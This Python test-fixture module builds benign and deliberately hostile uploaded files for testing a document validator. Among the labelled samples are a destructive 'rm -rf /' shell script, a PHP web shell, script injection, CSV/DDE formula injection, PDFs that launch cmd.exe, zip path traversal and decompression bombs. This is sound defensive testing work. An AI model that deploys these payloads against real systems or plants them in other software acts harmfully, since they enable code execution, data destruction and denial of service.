"""Files that companies send: good ones as programs write them, and hostile ones, each with the name that it comes under."""

import io
import struct
import zipfile
import zlib
from typing import NamedTuple

from PIL import Image
from xlsxwriter import Workbook

from award.documents.paper import PORTRAIT, Credits, opened

TYPES = "[Content_Types].xml"
MAIN = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
}
PROGRAM = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode."


class SentFile(NamedTuple):
    """`name` as a browser says it."""

    name: str
    content: bytes


def pdf() -> bytes:
    canvas, target = opened(PORTRAIT, Credits("Essai", "award", "Essai", "fr"))
    canvas.showPage()
    canvas.save()
    return target.getvalue()


def picture(kind: str = "PNG") -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (60, 40), (20, 33, 61)).save(target, kind, **({"progressive": True} if kind == "JPEG" else {}))
    return target.getvalue()


def xlsx() -> bytes:
    target = io.BytesIO()
    with Workbook(target) as book:
        sheet = book.add_worksheet("Chiffres")
        sheet.write_formula("A1", "=SUM(B1:B3)")
        sheet.write_string("A2", "=cmd|' /C calc'!A0")
        sheet.write_url("A3", "https://example.org/charte")
    return target.getvalue()


def office(kind: str = "docx", parts: dict[str, bytes] | None = None, more: str = "") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(TYPES, f'<?xml version="1.0"?><Types><Override ContentType="{MAIN[kind]}"/>{more}</Types>')
        for name, content in {"word/document.xml": b"<w:document/>", **(parts or {})}.items():
            archive.writestr(zipfile.ZipInfo(name) if ".." in name or "\\" in name else name, content)
    return target.getvalue()


def object_pdf(body: bytes) -> bytes:
    """A PDF with one object more."""
    whole = pdf()
    return whole.replace(b"endobj\n", b"endobj\n99 0 obj\n" + body + b"\nendobj\n", 1)


def hidden_pdf(body: bytes) -> bytes:
    """In a stream of objects, which is packed."""
    packed = zlib.compress(body)
    head = b"<< /Type /ObjStm /Filter /FlateDecode /N 1 /First 4 /Length %d >>" % len(packed)
    return object_pdf(head + b"\nstream\n" + packed + b"\nendstream")


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def wide_png(width: int, height: int) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def locked(content: bytes) -> bytes:
    """Its first part says that it is encrypted, there and in the directory."""
    at = content.index(b"PK\x01\x02")
    found = bytearray(content)
    found[6] |= 1
    found[at + 8] |= 1
    return bytes(found)


def lying(content: bytes) -> bytes:
    """Its directory says that a part is small."""
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 24] + struct.pack("<I", 10) + content[at + 28 :]


def archive_of(types: str, *names: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(TYPES, types)
        for name in names:
            archive.writestr(name, name)
    return target.getvalue()


def overlapping() -> bytes:
    """Two entries of the directory that are the same bytes."""
    whole = office()
    start, end = whole.index(b"PK\x01\x02"), whole.rindex(b"PK\x05\x06")
    directory = whole[start:end]
    copy = directory.replace(b"document.xml", b"documenu.xml").replace(b"Content_Types", b"Content_Typet")
    both, tail = directory + copy, bytearray(whole[end:])
    struct.pack_into("<HHII", tail, 8, 4, 4, len(both), start)
    return whole[:start] + both + bytes(tail)


def odd_packing() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr(TYPES, MAIN["docx"])
    return target.getvalue()


GOOD = {
    "pdf": SentFile("Charte de l’accueil.pdf", pdf()),
    "png": SentFile("boutique.PNG", picture()),
    "jpeg": SentFile("boutique.jpeg", picture("JPEG")),
    "xlsx": SentFile("chiffres.xlsx", xlsx()),
    "docx": SentFile("rapport.docx", office()),
    "pptx": SentFile("étude.pptx", office("pptx", {"ppt/embeddings/Feuille1.xlsx": xlsx()})),
    "csv": SentFile("verbatims.csv", "année;score;écart\n2025;83,5;-2,1\n2026;+4 %;-\n".encode()),
    "txt": SentFile("note.txt", "Un client m’a dit : « 1 < 2 ».\n".encode("cp1252")),
}
"""By the kind that is found."""

HOSTILE = {
    "program as pdf": SentFile("charte.pdf", PROGRAM),
    "program": SentFile("charte.txt", PROGRAM),
    "shell": SentFile("notes.txt", b"#!/bin/sh\nrm -rf /\n"),
    "page as text": SentFile("notes.txt", b"<html><script>alert(1)</script>"),
    "page in capitals": SentFile("notes.txt", b"  <SCRIPT src=//x>"),
    "php": SentFile("notes.txt", b"bonjour <?php system($_GET[0]); ?>"),
    "svg": SentFile("logo.txt", b"<svg onload=alert(1)>"),
    "page as picture": SentFile("logo.png", b"<html><script>alert(1)</script>"),
    "page as csv": SentFile("a.csv", b"a;b\n<script>alert(1)</script>;c"),
    "formula": SentFile("a.csv", b"nom;note\n=1+1;3\n"),
    "formula of a command": SentFile("a.csv", b"=cmd|' /C calc'!A0"),
    "formula after a quote": SentFile("a.csv", b'nom,"=HYPERLINK(""http://x"")"'),
    "formula by plus": SentFile("a.csv", b"+SUM(A1:A9);2"),
    "formula by minus": SentFile("a.csv", b"-cmd|x;2"),
    "formula by at": SentFile("a.csv", b"@SUM(1);2"),
    "formula after a tabulation": SentFile("a.csv", b"a;\t=1+1"),
    "nulls": SentFile("a.txt", b"a\0b"),
    "empty": SentFile("a.txt", b""),
    "utf-16": SentFile("a.txt", "été".encode("utf-16")),
    "pdf with a script": SentFile("a.pdf", object_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    "pdf with a script spelt otherwise": SentFile("a.pdf", object_pdf(b"<< /S /J#61vaScript /J#53 (x) >>")),
    "pdf with a hidden script": SentFile("a.pdf", hidden_pdf(b"1 0 << /S /JavaScript /JS (x) >>")),
    "pdf that starts a program": SentFile("a.pdf", object_pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "pdf that carries a file": SentFile("a.pdf", object_pdf(b"<< /Type /EmbeddedFile >>")),
    "pdf that is locked": SentFile("a.pdf", object_pdf(b"<< /Encrypt 3 0 R >>")),
    "pdf with a form that runs": SentFile("a.pdf", object_pdf(b"<< /XFA 3 0 R >>")),
    "pdf whose objects do not unpack": SentFile("a.pdf", object_pdf(b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nxx\nendstream")),
    "pdf bomb": SentFile("a.pdf", hidden_pdf(bytes(120_000_000))),
    "pdf cut short": SentFile("a.pdf", pdf()[:-40]),
    "pdf of no version": SentFile("a.pdf", b"%PDF-html <script>%%EOF"),
    "pdf and archive": SentFile("a.pdf", pdf() + office()),
    "pdf and page": SentFile("a.pdf", pdf() + b"<script>alert(1)</script>"),
    "archive within the end of a pdf": SentFile("a.pdf", pdf() + office() + b"startxref\n%%EOF"),
    "png and archive": SentFile("a.png", picture() + office()),
    "png and page": SentFile("a.png", picture() + b"<script>alert(1)</script>"),
    "png changed": SentFile("a.png", picture()[:40] + b"\x01" + picture()[41:]),
    "png cut short": SentFile("a.png", picture()[:-12]),
    "png without a head": SentFile("a.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IDAT", b"") + chunk(b"IEND", b"")),
    "png bomb": SentFile("a.png", wide_png(60_000, 60_000)),
    "png of nothing": SentFile("a.png", wide_png(0, 10)),
    "jpeg and page": SentFile("a.jpg", picture("JPEG") + b"<?php x ?>"),
    "jpeg cut short": SentFile("a.jpg", picture("JPEG")[:-2]),
    "jpeg of a head only": SentFile("a.jpg", b"\xff\xd8\xff\xe0\x00\x04ab"),
    "jpeg bomb": SentFile("a.jpg", picture("JPEG").replace(b"\x00\x28\x00\x3c", b"\xff\xff\xff\xff", 1)),
    "any archive": SentFile("a.docx", archive_of("none", "index.html2")),
    "macros": SentFile("a.docx", office(parts={"word/vbaProject.bin": b"x"})),
    "macros by their type": SentFile("a.docx", office(more="<Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>")),
    "controls": SentFile("a.xlsx", office("xlsx", {"xl/activeX/activeX1.bin": b"x"})),
    "program inside": SentFile("a.docx", office(parts={"word/media/image1.png": PROGRAM})),
    "old document inside": SentFile("a.docx", office(parts={"word/embeddings/x.doc": b"\xd0\xcf\x11\xe0x"})),
    "command of a cell": SentFile("a.xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": b'<c><f>WEBSERVICE("http://x")</f></c>'})),
    "command of a link": SentFile("a.xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'})),
    "command of a field": SentFile("a.docx", office(parts={"word/document.xml": b"<w:instrText xml:space='preserve'> DDEAUTO c:\\\\x </w:instrText>"})),
    "template from elsewhere": SentFile("a.docx", office(parts={"word/_rels/settings.xml.rels": b'<Relationship Type="x/attachedTemplate" Target="http://x/t.dotm" TargetMode="External"/>'})),
    "entities": SentFile("a.docx", office(parts={"word/document.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'})),
    "entities in 16 bits": SentFile("a.docx", office(parts={"word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]>'.encode("utf-16")})),
    "name that climbs": SentFile("a.docx", office(parts={"../../../etc/cron.d/x": b"x"})),
    "name from the root": SentFile("a.docx", office(parts={"/etc/passwd": b"x"})),
    "name of windows": SentFile("a.docx", office(parts={"word\\..\\..\\x": b"x"})),
    "archive inside": SentFile("a.docx", office(parts={"word/media/x.zip": office()})),
    "archive inside of an archive inside": SentFile("a.pptx", office("pptx", {"ppt/embeddings/a.xlsx": office("xlsx", {"xl/embeddings/b.docx": office()})})),
    "two parts of one name": SentFile("a.docx", archive_of(MAIN["docx"], "word/document.xml", "Word/Document.xml")),
    "parts that overlap": SentFile("a.docx", overlapping()),
    "packed in an odd manner": SentFile("a.docx", odd_packing()),
    "document that is locked": SentFile("a.docx", locked(office())),
    "document after a page": SentFile("a.docx", b"<script>alert(1)</script>" + office()),
    "document after another beginning": SentFile("a.docx", b"PK\x03\x04" + bytes(40) + office()),
    "jpeg of a fill without an end": SentFile("a.jpg", b"\xff\xd8\xff\xff\xd0\xff\xff\xff\xff\xff"),
    "jpeg whose picture does not end": SentFile("a.jpg", b"\xff\xd8\xff\xda\x00\x02" + b"\xff\xff\xff\x00\xff\xd1ab"),
    "document before a page": SentFile("a.docx", office() + b"<script>alert(1)</script>"),
    "document bomb": SentFile("a.docx", office(parts={"word/document.xml": bytes(40_000_000)})),
    "document bomb that lies": SentFile("a.docx", lying(office(parts={"word/document.xml": bytes(40_000_000)}))),
    "document of too many parts": SentFile("a.docx", office(parts={f"word/{at}.xml": b"" for at in range(3_100)})),
    "document cut short": SentFile("a.docx", office()[:-30]),
    "old word document": SentFile("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)),
    "pdf as docx": SentFile("a.docx", pdf()),
    "docx as xlsx": SentFile("a.xlsx", office()),
    "text as pdf": SentFile("a.pdf", b"bonjour"),
}  # fmt: skip
